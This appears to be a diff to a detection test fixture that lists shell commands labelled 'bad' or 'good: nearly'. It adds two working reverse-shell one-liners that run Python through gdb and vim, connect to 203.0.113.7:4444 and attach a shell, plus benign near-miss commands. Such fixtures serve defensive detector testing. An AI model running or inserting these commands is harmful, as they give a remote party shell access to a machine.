@@ -27,3 +27,9 @@ perl /tmp/back.pl
 perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("redis.example:6379"); print $s "PING\r\n"; print <$s>; system("uptime");'
 # good: nearly: PHP that tells a metric what a fixed command prints
 php -r '$s = fsockopen("metrics.example", 2003); $load = shell_exec("uptime"); fwrite($s, $load);'
+# bad: Python in a debugger
+gdb -nx -ex 'python import os,socket,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")' -ex quit
+# bad: Python in an editor
+vim -c ':py3 import socket,subprocess;s=socket.create_connection(("203.0.113.7",4444));subprocess.call(["sh"],stdin=s,stdout=s)'
+# good: nearly: Python in an editor that counts
+vim -c ':py3 print(len("word"))'
